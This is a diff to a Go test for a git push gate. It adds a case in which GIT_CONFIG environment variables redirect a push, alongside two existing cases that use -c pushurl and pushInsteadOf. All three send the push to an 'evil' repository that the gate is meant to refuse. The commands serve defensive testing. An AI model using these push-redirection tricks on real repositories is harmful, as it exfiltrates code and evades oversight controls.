@@ -114,15 +114,17 @@ func TestGitPushGateTicketBinding(t *testing.T) {
 		}
 	}
 
-	redirects := []string{
-		"git -c remote.origin.pushurl=" + evil + " push origin main",
-		"git -c url." + evil + ".pushInsteadOf=" + remote + " push origin main",
+	redirects := []struct{ command, why string }{
+		{"git -c remote.origin.pushurl=" + evil + " push origin main", "changes where or what the push sends"},
+		{"git -c url." + evil + ".pushInsteadOf=" + remote + " push origin main", "changes where or what the push sends"},
+		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.pushurl GIT_CONFIG_VALUE_0=" + evil + " git push origin main",
+			"a GIT_ variable set by the command changes where or what git pushes"},
 	}
-	for _, command := range redirects {
-		refused(command, "changes where or what the push sends")
-		shIn(t, root, command)
+	for _, r := range redirects {
+		refused(r.command, r.why)
+		shIn(t, root, r.command)
 		if got := revIn(t, evil, "main"); got != revIn(t, root, "HEAD") {
-			t.Errorf("%q did not send the push elsewhere: evil.git main is %q", command, got)
+			t.Errorf("%q did not send the push elsewhere: evil.git main is %q", r.command, got)
 		}
 		gitIn(t, evil, "update-ref", "-d", "refs/heads/main")
 	}
